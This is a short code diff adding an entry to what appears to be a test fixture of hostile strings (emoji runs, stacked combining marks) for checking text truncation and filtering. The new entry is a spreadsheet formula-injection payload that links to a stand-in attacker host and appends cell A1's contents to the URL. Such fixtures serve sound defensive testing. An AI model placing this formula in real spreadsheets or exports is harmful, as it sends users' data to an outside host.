@@ -25,6 +25,7 @@ HOSTILE = {
     "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🧑🏿‍🚀" * 40,
     "marks": "Z̸̢̛͍͈̗̳͇̦̻̯̟̱̪͙̗̾͑̽̍͂͒̓̊̃̕͝a̸l̸g̸o̸" * 20,
     "word": WORD,
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"more")',
 }
 LINE = HOSTILE["script"][:95]  # where a hundred characters are the most
 PRINTED = {name: "".join(filter(str.isprintable, text)).strip()[:200] for name, text in HOSTILE.items()}  # for labels
